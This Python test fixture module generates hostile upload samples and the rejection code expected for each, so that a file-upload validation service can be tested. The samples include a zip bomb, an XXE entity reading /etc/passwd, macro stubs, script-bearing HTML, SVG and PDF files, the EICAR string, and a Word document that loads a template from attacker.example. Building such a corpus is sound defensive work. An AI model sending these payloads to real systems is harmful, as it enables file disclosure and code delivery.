"""The hostile-upload corpus and valid files of a given size, built in code.

Shared by the files tests, the e2e tests (tests/e2e/test_upload_policy.py)
and bench/upload_bench.py, so that every slot is tried with the same bytes.
No binary fixture: each case is made from a readable recipe. Not imported by
the service.

``hostile()`` gives ``{case: bytes}``; ``EXPECTED[case]`` is the one code
every slot answers with, except in the slots that accept that type
(``ACCEPTED_BY``: a clean PDF, merely renamed, is a fine registration
document).
"""

from __future__ import annotations

import io
import random
import zipfile

from kit.limits import MAX_UPLOAD_BYTES

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"

XLSX_CT = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
MACRO_CT = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"

EXPECTED = {
    "zip_bomb": "files.xlsx.zip_bomb",
    "xxe": "files.xlsx.xml_entities",
    "macro": "files.xlsx.macro",
    "external_link": "files.xlsx.external_link",
    "renamed_pdf": "files.type_not_allowed",
    "renamed_exe": "files.type_not_allowed",
    "random": "files.type_not_allowed",
    "html": "files.type_not_allowed",
    "svg": "files.type_not_allowed",
    "encrypted_pdf": "files.pdf.encrypted",
    "pdf_javascript": "files.pdf.active_content",
    "pdf_embedded_file": "files.pdf.embedded_file",
    "empty": "files.empty",
    "too_large": "files.too_large",
    "eicar": "files.malware_detected",
    "eicar_in_cell": "files.malware_detected",
}
# cases whose bytes are a type some slots accept: refused only elsewhere
ACCEPTED_BY = {"renamed_pdf": "pdf"}
# cases that need a running scanner
NEEDS_SCANNER = frozenset({"eicar", "eicar_in_cell"})

MAX_BYTES = MAX_UPLOAD_BYTES


def xlsx(cells=(("Code", "Intitulé"), ("46T31203", "BTS MCO"))) -> bytes:
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Feuille"
    for row in cells:
        ws.append(list(row))
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def _rezip(data: bytes, replace=None, add=()) -> bytes:
    replace = replace or {}
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst,
    ):
        for info in src.infolist():
            dst.writestr(info.filename, replace.get(info.filename, src.read(info.filename)))
        for name, content in add:
            dst.writestr(name, content)
    return out.getvalue()


def _edit(data: bytes, part: str, old: str, new: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        text = archive.read(part).decode()
    if old not in text:
        raise ValueError(f"{old!r} not in {part}")
    return _rezip(data, {part: text.replace(old, new, 1).encode()})


def pdf(extra=None, encrypt: bool = False, payload: bytes = b"") -> bytes:
    """A one-page PDF; ``extra(pdf)`` adds hostile parts; ``payload`` a stream."""
    import pikepdf

    document = pikepdf.new()
    document.add_blank_page()
    if payload:
        document.Root.Payload = document.make_stream(payload)
    if extra is not None:
        extra(document)
    out = io.BytesIO()
    kwargs = {"compress_streams": False}
    if encrypt:
        kwargs["encryption"] = pikepdf.Encryption(owner="proprietaire", user="secret", R=6)
    document.save(out, **kwargs)
    return out.getvalue()


def _javascript(document) -> None:
    import pikepdf

    action = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    document.Root.OpenAction = document.make_indirect(action)


def _embedded_file(document) -> None:
    import pikepdf

    spec = pikepdf.AttachedFileSpec(document, b"MZ\x90\x00 pas un document", filename="a.exe")
    document.attachments["a.exe"] = spec


def xlsx_of_size(size: int, seed: int = 0) -> bytes:
    """A plain workbook of about ``size`` bytes (random text, incompressible enough)."""
    rng = random.Random(seed)
    rows = [("Code", "Montant", "Libellé", "Ligne")]
    rows += [
        (f"{rng.getrandbits(64):x}", rng.random(), f"ligne {i} {rng.getrandbits(128):x}", i)
        for i in range(max(1, size // 66))
    ]
    return xlsx(rows)


def variant(maker: str, size: int, seed: int = 0) -> bytes:
    """A valid ``pdf`` or ``xlsx`` of about ``size`` bytes, different for each seed."""
    if maker == "pdf":
        return pdf(payload=random.Random(seed).randbytes(size))
    if maker == "xlsx":
        return xlsx_of_size(size, seed)
    raise ValueError(maker)


def hostile() -> dict[str, bytes]:
    """Every case of the corpus (``EXPECTED`` gives the answer to each)."""
    base = xlsx()
    content_types = "[Content_Types].xml"
    with zipfile.ZipFile(io.BytesIO(base)) as archive:
        types = archive.read(content_types).decode()
    return {
        # one entry of 5 MiB of zeros: compressed ~1,000 times
        "zip_bomb": _rezip(base, add=[("xl/media/image1.png", bytes(5 * 1024 * 1024))]),
        "xxe": _edit(
            base,
            "xl/workbook.xml",
            "<workbook ",
            '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><workbook ',
        ),
        "macro": _rezip(
            base,
            {content_types: types.replace(XLSX_CT, MACRO_CT).encode()},
            add=[("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0 macro")],
        ),
        "external_link": _rezip(
            base,
            add=[
                (
                    "xl/externalLinks/externalLink1.xml",
                    b'<?xml version="1.0"?><externalLink xmlns="http://schemas.openxmlformats.org'
                    b'/spreadsheetml/2006/main"/>',
                )
            ],
        ),
        "renamed_pdf": pdf(),
        "renamed_exe": b"MZ\x90\x00\x03\x00\x00\x00" + bytes(200),
        "random": random.Random(11).randbytes(4096),
        "html": b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>",
        "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/></svg>',
        "encrypted_pdf": pdf(encrypt=True),
        "pdf_javascript": pdf(_javascript),
        "pdf_embedded_file": pdf(_embedded_file),
        "empty": b"",
        "too_large": b"%PDF-1.7\n" + bytes(MAX_BYTES),
        "eicar": EICAR,
        "eicar_in_cell": xlsx((("Code", "Commentaire"), ("46T31203", EICAR.decode()))),
    }


def docx(macro: bool = False, external: bool = False) -> bytes:
    """A minimal Word document; ``macro``: a vbaProject and the macro-enabled
    type (.docm renamed); ``external``: a template fetched from the web on open."""
    main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    if macro:
        main = "application/vnd.ms-word.document.macroEnabled.main+xml"
    rels = "http://schemas.openxmlformats.org/package/2006/relationships"
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    parts = {
        "[Content_Types].xml": (
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            'content-types"><Default Extension="rels" ContentType="application/vnd.'
            'openxmlformats-package.relationships+xml"/><Default Extension="xml" '
            f'ContentType="application/xml"/><Override PartName="/word/document.xml" '
            f'ContentType="{main}"/></Types>'
        ),
        "_rels/.rels": (
            f'<?xml version="1.0"?><Relationships xmlns="{rels}"><Relationship Id="rId1" '
            f'Type="{office}/officeDocument" Target="word/document.xml"/></Relationships>'
        ),
        "word/document.xml": (
            '<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
            'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Annexe</w:t></w:r></w:p>'
            "</w:body></w:document>"
        ),
    }
    if macro:
        parts["word/vbaProject.bin"] = "\xd0\xcf macro"
    if external:
        parts["word/_rels/document.xml.rels"] = (
            f'<?xml version="1.0"?><Relationships xmlns="{rels}"><Relationship Id="rId9" '
            f'Type="{office}/attachedTemplate" Target="https://attacker.example/t.dotm" '
            'TargetMode="External"/></Relationships>'
        )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return out.getvalue()


def name_for(case: str, maker: str) -> str:
    """The name an attacker would give: the extension the slot expects."""
    return f"{case}.{maker}"
